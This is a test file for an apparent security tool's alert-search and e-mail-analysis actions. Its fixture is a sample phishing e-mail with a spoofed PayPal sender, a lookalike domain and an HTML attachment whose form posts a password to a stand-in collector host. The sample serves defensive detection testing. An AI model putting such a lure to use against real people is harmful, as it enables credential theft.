import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { ActionError, type ActionContext } from '../src/core/action.ts';
import type { AlertSearchResult } from '../src/ingest/alert-search.ts';
import { SEARCH_BOUNDS } from '../src/ingest/alert-search.ts';
import type { EmailAnalysis } from '../src/ingest/email-analysis.ts';
import { startHarness, type Harness } from './support/harness.ts';
import { databaseKinds } from './support/test-databases.ts';

/** `riposte.search_alerts` and `riposte.analyze_email` over alerts really ingested and grouped. */
const ACTOR = { id: 'alice', type: 'user' as const };
const context: ActionContext = {
  idempotencyKey: 'run_1:s:1',
  attempt: 1,
  runId: 'run_1',
  stepKey: 's',
  signal: new AbortController().signal,
};

const LURE = [
  'From: "PayPal <service@paypal.com>" <support@paypa1-secure.example>',
  'Reply-To: payouts@freemail.example',
  'Return-Path: <bounce@mailer.example>',
  'To: bob@corp.example, carol@corp.example',
  'Subject: Verify your account',
  'Message-ID: <lure-1@paypa1-secure.example>',
  'Authentication-Results: mx.corp.example; spf=softfail smtp.mailfrom=mailer.example; dkim=none; dmarc=fail',
  'Received: from mail.paypa1-secure.example (mail.paypa1-secure.example [203.0.113.7]) by mx.corp.example with ESMTP id 1; Fri, 20 Nov 2026 09:00:00 +0000',
  'Received: from app (app.internal [10.0.0.5]) by mail.paypa1-secure.example; Fri, 20 Nov 2026 08:59:59 +0000',
  'Date: Fri, 20 Nov 2026 09:00:00 +0000',
  'MIME-Version: 1.0',
  'Content-Type: multipart/mixed; boundary="b1"',
  '',
  '--b1',
  'Content-Type: text/html; charset=utf-8',
  '',
  '<p>Please <a href="https://login.paypa1-secure.example/verify?u=bob">verify</a> today.</p>',
  '--b1',
  'Content-Type: text/html; name="invoice.html"',
  'Content-Disposition: attachment; filename="invoice.html"',
  '',
  '<form action="https://collect.evil-forms.example/post"><input name=pw></form>',
  '--b1--',
  '',
].join('\r\n');

for (const kind of databaseKinds()) {
  describe(`alert actions on ${kind}`, () => {
    let h: Harness;
    let emailId: string;
    let proxyIds: string[];
    const now = Date.now();
    const ago = (days: number) => new Date(now - days * 86_400_000).toISOString();

    before(async () => {
      h = await startHarness(kind);
      const { source: reports } = await h.riposte.sources.create({ name: 'reports', format: 'email' }, ACTOR);
      emailId = (await h.riposte.ingest.ingest(reports, LURE, 'message/rfc822', ACTOR)).alertIds[0]!;
      const { source: proxy } = await h.riposte.sources.create(
        {
          name: 'proxy',
          format: 'generic',
          options: {
            mapping: {
              title: 'event.msg',
              eventTime: 'event.time',
              observables: [
                { type: 'url', value: 'event.url', role: 'destination' },
                { type: 'host', value: 'event.host', role: 'source' },
                { type: 'user', value: 'event.user', role: 'actor' },
              ],
            },
          },
        },
        ACTOR,
      );
      const visit = (url: string, host: string, user: string, time: string) =>
        JSON.stringify({ msg: `Proxy allowed ${url}`, url, host, user, time });
      const body = [
        visit('https://login.paypa1-secure.example/verify?u=bob', 'wks-042', 'bob', ago(1)),
        visit('https://login.paypa1-secure.example/verify?u=bob', 'wks-077', 'dave', ago(40)),
        visit('https://intranet.corp.example/', 'wks-042', 'bob', ago(1)),
      ].join('\n');
      proxyIds = (await h.riposte.ingest.ingest(proxy, body, 'application/x-ndjson', ACTOR)).alertIds;
      await h.riposte.grouping.drain();
    });
    after(() => h.close());

    const search = async (input: Record<string, unknown>) =>
      (await h.riposte.actions.get('riposte.search_alerts')!.run(input, context)) as AlertSearchResult;

    it('finds the proxy alert that saw a link of the e-mail, with its host and user, and not the e-mail itself', async () => {
      const emailCase = (await h.riposte.alerts.get(emailId)).caseId;
      const result = await search({
        observables: [
          { type: 'url', value: 'https://login.paypa1-secure.example/verify?u=bob' },
          { type: 'domain', value: 'paypa1-secure.example' },
        ],
        since: '30d',
        exclude_formats: ['email'],
        exclude_case_id: emailCase,
      });
      assert.equal(result.count, 1, JSON.stringify(result));
      const [hit] = result.alerts;
      assert.equal(hit?.id, proxyIds[0]);
      assert.equal(hit?.format, 'generic');
      assert.deepEqual(hit?.matched, [
        { type: 'url', value: 'https://login.paypa1-secure.example/verify?u=bob' },
      ]);
      assert.deepEqual(result.hosts, ['wks-042']);
      assert.deepEqual(result.users, ['bob']);
      assert.equal(result.truncated, false);
    });

    it('looks back only as far as asked, and lists values that cannot be valid', async () => {
      const wide = await search({
        observables: [{ type: 'url', value: 'https://login.paypa1-secure.example/verify?u=bob' }],
        since: ago(60),
        exclude_formats: ['email'],
      });
      assert.deepEqual(wide.users.sort(), ['bob', 'dave']);
      const invalid = await search({
        observables: [
          { type: 'domain', value: 'not a domain' },
          { type: 'url', value: 'https://intranet.corp.example/' },
        ],
      });
      assert.deepEqual(invalid.invalid, [{ type: 'domain', value: 'not a domain' }]);
      assert.equal(invalid.count, 1);
      await assert.rejects(search({ observables: [], since: 'last week' }), (e: unknown) => {
        assert.ok(e instanceof ActionError && !e.retryable, String(e));
        return true;
      });
    });

    it('stays bounded: more alerts than the limit are cut and flagged', async () => {
      const all = await search({
        observables: [{ type: 'host', value: 'wks-042' }],
        since: '30d',
        limit: 1,
      });
      assert.equal(all.count, 1);
      assert.equal(all.truncated, true);
      assert.ok(SEARCH_BOUNDS.alertsPerCase >= 100 && SEARCH_BOUNDS.casesPerValue >= 10);
    });

    it('analyses a stored e-mail: senders, authentication, the path, links from the body and the attachment', async () => {
      const a = (await h.riposte.actions
        .get('riposte.analyze_email')!
        .run({ alert_id: emailId }, context)) as EmailAnalysis & { urls_total: number };
      assert.equal(a.message_id, 'lure-1@paypa1-secure.example');
      assert.equal(a.from?.address, 'support@paypa1-secure.example');
      assert.equal(a.from?.domain, 'paypa1-secure.example');
      assert.deepEqual(a.sender_mismatches, ['reply_to', 'return_path']);
      assert.equal(a.display_name_spoof, true, 'the display name names service@paypal.com');
      assert.deepEqual(a.authentication, { spf: 'softfail', dkim: 'none', dmarc: 'fail' });
      assert.equal(a.authentication_failed, true);
      assert.deepEqual(
        a.received.map((hop) => [hop.from, hop.by, hop.ip]),
        [
          ['mail.paypa1-secure.example', 'mx.corp.example', '203.0.113.7'],
          ['app', 'mail.paypa1-secure.example', '10.0.0.5'],
        ],
      );
      assert.equal(a.origin_ip, '203.0.113.7', 'the private hop is not the origin');
      assert.deepEqual(a.recipients, ['bob@corp.example', 'carol@corp.example']);
      assert.deepEqual(a.urls, [
        'https://login.paypa1-secure.example/verify?u=bob',
        'https://collect.evil-forms.example/post',
      ]);
      assert.deepEqual(a.url_hosts, ['login.paypa1-secure.example', 'collect.evil-forms.example']);
      assert.equal(a.attachments.length, 1);
      assert.equal(a.attachments[0]?.filename, 'invoice.html');
      assert.match(a.attachments[0]?.sha256 ?? '', /^[0-9a-f]{64}$/);
      const capped = (await h.riposte.actions
        .get('riposte.analyze_email')!
        .run({ alert_id: emailId, max_urls: 1 }, context)) as EmailAnalysis & { urls_total: number };
      assert.deepEqual([capped.urls.length, capped.urls_total], [1, 2]);
    });

    it('refuses an alert that is not an e-mail, once (not retried)', async () => {
      await assert.rejects(
        h.riposte.actions.get('riposte.analyze_email')!.run({ alert_id: proxyIds[0]! }, context),
        (e: unknown) => {
          assert.ok(e instanceof ActionError, String(e));
          assert.equal(e.retryable, false);
          assert.match(e.message, /is not an e-mail \(format generic\)/);
          return true;
        },
      );
    });
  });
}
